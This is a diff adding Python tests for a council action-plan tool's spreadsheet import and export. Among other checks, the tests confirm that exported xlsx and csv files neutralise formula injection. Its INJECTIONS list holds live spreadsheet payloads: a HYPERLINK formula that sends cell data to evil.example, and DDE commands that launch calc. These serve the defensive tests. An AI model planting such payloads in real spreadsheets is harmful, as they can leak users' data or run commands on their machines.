@@ -6,6 +6,7 @@ seed council, then filled in as a council officer would.
 
 from __future__ import annotations
 
+import csv
 import json
 import subprocess
 import sys
@@ -156,3 +157,144 @@ def test_cli_round_trip_and_unlinked_listing(store: GraphStore, tmp_path: Path) 
         assert action(reopened, unlinked.id).recommendation_id == target.recommendation_id, (
             "a manual link survives"
         )
+
+
+def _run(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([PEERGRAPH, *args], capture_output=True, text=True)
+
+
+def test_filling_two_rows_of_the_template_adds_two_actions(store: GraphStore, tmp_path: Path) -> None:
+    template = tmp_path / "template.xlsx"
+    write_plan_template(store, TORBAY, template)
+    workbook = load_workbook(template)
+    sheet = workbook["Action plan"]
+    for row in (HEADER_ROW + 1, HEADER_ROW + 4):
+        sheet.cell(row, 3, f"Deliver recommendation {sheet.cell(row, 1).value}")
+        sheet.cell(row, 6, "On track")
+    sheet.cell(HEADER_ROW + 6, 4, "DASS")  # an owner on a row whose action was never written
+    workbook.save(template)
+    db = Path(store.location)
+    store.close()
+
+    done = _run("import-plan", str(template), "--council", TORBAY, "--db", str(db))
+
+    assert done.returncode == 0, done.stderr
+    assert "2 actions added" in done.stdout and "5 rows skipped (1 of them fill other cells" in done.stdout
+    assert f"{HEADER_ROW + 6}" in done.stdout and "Lead officer" in done.stdout
+    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
+        actions = council_actions(reopened, TORBAY)
+    assert sorted(a.ref or "" for a in actions) == ["R1", "R4"]
+    assert all(a.text and a.status == "on_track" for a in actions)
+
+
+def test_history_is_dated_when_the_plan_was_true(store: GraphStore, tmp_path: Path) -> None:
+    june = fill_template(store, tmp_path, status="On track", due="Q3 2025/26", progress="Started")
+    workbook = load_workbook(june)
+    workbook["Action plan"].cell(2, 1, "As at 30 June 2025")
+    workbook.save(june)
+    october = fill_template(store, tmp_path, status="Slipped", due="Q4 2025/26", progress="Delayed")
+    db = Path(store.location)
+    store.close()
+
+    first = _run("import-plan", str(june), "--council", TORBAY, "--db", str(db))
+    second = _run("import-plan", str(october), "--council", TORBAY, "--db", str(db), "--as-of", "2025-10-31")
+    refused = _run("import-plan", str(october), "--council", TORBAY, "--db", str(db), "--as-of", "31/02/2025")
+
+    assert first.returncode == 0 and "as at 2025-06-30, from sheet 'Action plan' cell A2" in first.stdout
+    assert second.returncode == 0 and "as at 2025-10-31, from given when imported (given)" in second.stdout
+    assert refused.returncode == 2 and "--as-of: '31/02/2025': no such day" in refused.stderr
+    assert len(refused.stderr.strip().splitlines()) == 1
+    with writable_store(Settings(db=db, neo4j_uri=None)) as reopened:
+        actions = council_actions(reopened, TORBAY)
+    assert {tuple(u.at for u in a.history) for a in actions} == {("2025-06-30", "2025-10-31")}
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def fill_with_formulas(store: GraphStore, folder: Path) -> Path:
+    """The template filled with text that starts like a formula in every text column."""
+    template = folder / "template.xlsx"
+    rows = write_plan_template(store, TORBAY, template)
+    workbook = load_workbook(template)
+    sheet = workbook["Action plan"]
+    for offset, row in enumerate(range(HEADER_ROW + 1, HEADER_ROW + 1 + rows)):
+        text = INJECTIONS[offset % len(INJECTIONS)]
+        sheet.cell(row, 3, f"{text} action {offset}")  # openpyxl stores "=..." as a formula, unsaved
+        sheet.cell(row, 4, text if offset % 2 else "DASS")
+        sheet.cell(row, 5, "Q3 2025/26")
+        sheet.cell(row, 6, "On track")
+        sheet.cell(row, 8, f"{text} progress {offset}")
+    filled = folder / "formulas.xlsx"
+    workbook.save(filled)
+    return filled
+
+
+def test_exports_store_imported_text_as_text_never_as_a_formula(store: GraphStore, tmp_path: Path) -> None:
+    imported = _import(store, fill_with_formulas(store, tmp_path))
+    assert imported.created == 7  # type: ignore[attr-defined]
+    workbook_path, csv_path = tmp_path / "export.xlsx", tmp_path / "export.csv"
+
+    write_plan_export(store, TORBAY, workbook_path)
+    write_plan_export(store, TORBAY, csv_path)
+
+    workbook = load_workbook(workbook_path)
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    risky = [
+        cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
+    ]
+    assert len(risky) >= 20 and {sheet.title for sheet in workbook.worksheets} == {"Action plan", "History"}
+    assert all(cell.quotePrefix for cell in risky)
+    assert any(cell.parent.title == "History" for cell in risky)
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        fields = [field for record in csv.reader(handle) for field in record]
+    assert sum(field.startswith("'=") for field in fields) >= 10
+    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("form", [".xlsx", ".csv"])
+def test_a_plan_whose_texts_start_like_formulas_round_trips_unchanged(
+    store: GraphStore, tmp_path: Path, form: str
+) -> None:
+    _import(store, fill_with_formulas(store, tmp_path))
+    before = [a.model_dump() for a in council_actions(store, TORBAY)]
+    assert {a["text"].split(" action")[0] for a in before} == set(INJECTIONS)
+    exported = tmp_path / f"export{form}"
+    write_plan_export(store, TORBAY, exported)
+
+    again = _import(store, exported)
+
+    assert (again.created, again.updated, again.unchanged) == (0, 0, 7)  # type: ignore[attr-defined]
+    assert [a.model_dump() for a in council_actions(store, TORBAY)] == before
+
+
+def test_an_export_keeps_the_plans_own_words_and_columns(store: GraphStore, tmp_path: Path) -> None:
+    plan = tmp_path / "plan.csv"
+    plan.write_text(
+        "Ref,Recommendation,Action,Lead,Due,Status,Priority,Budget\n"
+        "R1,Our words for the first recommendation,Write the strategy,DASS,Q3 2025/26,On track,High,£10k\n"
+        "R2,Our words for the second,Train staff,PSW,31/03/2026,Not started,Low,\n",
+        encoding="utf-8",
+    )
+    _import(store, plan)
+    before = [a.model_dump() for a in council_actions(store, TORBAY)]
+    exported = tmp_path / "export.xlsx"
+    write_plan_export(store, TORBAY, exported)
+
+    again = _import(store, exported)
+
+    sheet = load_workbook(exported)["Action plan"]
+    header = [cell.value for cell in sheet[HEADER_ROW]]
+    first = dict(zip(header, [cell.value for cell in sheet[HEADER_ROW + 1]], strict=True))
+    assert first["Recommendation"] == "Our words for the first recommendation"
+    assert (first["Target date"], first["Priority"], first["Budget"]) == ("Q3 2025/26", "High", "£10k")
+    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)  # type: ignore[attr-defined]
+    after = [a.model_dump() for a in council_actions(store, TORBAY)]
+    assert after == before and after[0]["extra"] == {"Priority": "High", "Budget": "£10k"}
